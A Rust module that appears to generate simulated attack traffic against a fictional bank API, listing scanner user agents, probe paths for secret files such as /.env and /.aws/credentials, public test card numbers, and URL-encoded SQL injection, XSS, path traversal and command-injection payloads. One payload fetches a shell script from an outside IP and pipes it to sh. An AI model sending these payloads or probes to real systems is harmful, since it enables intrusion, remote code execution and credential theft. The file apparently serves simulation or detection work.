//! What the attackers send: user agents, scanner probe paths, injection
//! payloads and test card numbers.

use crate::bank::Ep;

pub(super) const STUFFING_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:122.0) Gecko/20100101 Firefox/122.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
];

pub(super) const NMAP_UA: &str =
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
pub(super) const NIKTO_UA: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000132)";
pub(super) const ZOMBIE_UA: &str = "ExampleBank/5.2.1 (iPhone; iOS 12.5.7; Scale/2.00)";

/// (method, path, the real endpoint it is, if any, and its status).
pub(super) type Probe = (&'static str, &'static str, Option<(Ep, u16)>);

pub(super) const PROBES: &[Probe] = &[
    ("GET", "/", None),
    ("GET", "/.env", None),
    ("GET", "/.git/config", None),
    ("GET", "/.git/HEAD", None),
    ("GET", "/wp-login.php", None),
    ("GET", "/wp-admin/setup-config.php", None),
    ("GET", "/xmlrpc.php", None),
    ("GET", "/actuator/env", None),
    ("GET", "/actuator/health", None),
    ("GET", "/actuator/heapdump", None),
    ("GET", "/swagger.json", None),
    ("GET", "/swagger-ui.html", None),
    ("GET", "/v2/api-docs", None),
    ("GET", "/v3/api-docs", None),
    ("GET", "/openapi.json", None),
    ("GET", "/api-docs", None),
    ("GET", "/admin", None),
    ("GET", "/admin/login", None),
    ("GET", "/phpinfo.php", None),
    ("GET", "/phpmyadmin/", None),
    ("GET", "/server-status", None),
    ("GET", "/.aws/credentials", None),
    ("GET", "/config.json", None),
    ("GET", "/.DS_Store", None),
    ("GET", "/backup.zip", None),
    ("GET", "/db.sql", None),
    ("GET", "/graphql", None),
    ("POST", "/graphql", None),
    ("GET", "/console/", None),
    ("GET", "/debug/pprof/", None),
    ("GET", "/cgi-bin/luci", None),
    (
        "GET",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        None,
    ),
    ("GET", "/owa/auth/logon.aspx", None),
    ("GET", "/remote/login", None),
    ("GET", "/jolokia/list", None),
    ("GET", "/telescope/requests", None),
    ("GET", "/_profiler/phpinfo", None),
    ("GET", "/.env.production", None),
    ("GET", "/config/database.yml", None),
    ("GET", "/web.config", None),
    ("GET", "/solr/admin/info/system", None),
    ("GET", "/manager/html", None),
    ("GET", "/HNAP1/", None),
    ("GET", "/boaform/admin/formLogin", None),
    ("GET", "/v1/admin", None),
    ("GET", "/v1/users", None),
    ("GET", "/health", Some((Ep::Health, 200))),
    ("GET", "/v1/accounts", Some((Ep::Accounts, 401))),
    ("GET", "/v1/customers/me", Some((Ep::Me, 401))),
    ("GET", "/v1/payments", None),
];
pub(super) const PROBE_PREFIXES: &[&str] = &["", "/api", "/backup", "/old"];

/// Payloads in real endpoints; `{acc}` is replaced by the attacker's account.
pub(super) const PAYLOADS: &[(Ep, &str)] = &[
    (
        Ep::Transactions,
        "/v1/accounts/{acc}/transactions?from=2026-02-01%27%20OR%201%3D1--&to=2026-03-01&limit=50",
    ),
    (
        Ep::Transactions,
        "/v1/accounts/{acc}/transactions?from=2026-02-01&to=2026-03-01&limit=50%20UNION%20SELECT%20username,password%20FROM%20users--",
    ),
    (
        Ep::Branches,
        "/v1/branches?near=51.5072,-0.1276'%20OR%20'1'='1",
    ),
    (
        Ep::FxRates,
        "/v1/fx/rates?base=EUR%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    ),
    (
        Ep::Branches,
        "/v1/branches?near=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    ),
    (
        Ep::Transactions,
        "/v1/accounts/{acc}/transactions?format=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    ),
    (Ep::FxRates, "/v1/fx/rates?base=EUR%3Bcat%20%2Fetc%2Fpasswd"),
    (
        Ep::Branches,
        "/v1/branches?near=51.5%7C%7Cping%20-c%2010%20127.0.0.1",
    ),
    (
        Ep::Accounts,
        "/v1/accounts?sort=balance%3BDROP%20TABLE%20accounts--",
    ),
    (
        Ep::FxRates,
        "/v1/fx/rates?base=EUR%27%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--",
    ),
    (
        Ep::Branches,
        "/v1/branches?near=%24%28curl%20http%3A%2F%2F45.9.148.3%2Fx.sh%7Csh%29",
    ),
    (
        Ep::Beneficiaries,
        "/v1/beneficiaries?name=%3Csvg%2Fonload%3Dalert(1)%3E",
    ),
    (
        Ep::Balance,
        "/v1/accounts/{acc}/balance?currency=GBP%27%29%3B--",
    ),
    (Ep::Branches, "/v1/branches?q=\"><script>alert(1)</script>"),
    (
        Ep::Transactions,
        "/v1/accounts/{acc}/transactions?from=1%20AND%20SLEEP(5)&to=2026-03-01",
    ),
    (Ep::Account, "/v1/accounts/{acc}%27%20OR%20%271%27%3D%271"),
    (
        Ep::Branches,
        "/v1/branches?near=....%2F%2F....%2F%2F....%2F%2Fwindows%2Fwin.ini",
    ),
    (
        Ep::Cards,
        "/v1/cards?status=active%27%3B%20EXEC%20xp_cmdshell(%27whoami%27)--",
    ),
];

/// Luhn-valid test card numbers.
pub(super) const TEST_PANS: &[&str] = &[
    "4111111111111111",
    "5555555555554444",
    "4012888888881881",
    "378282246310005",
    "6011111111111117",
];
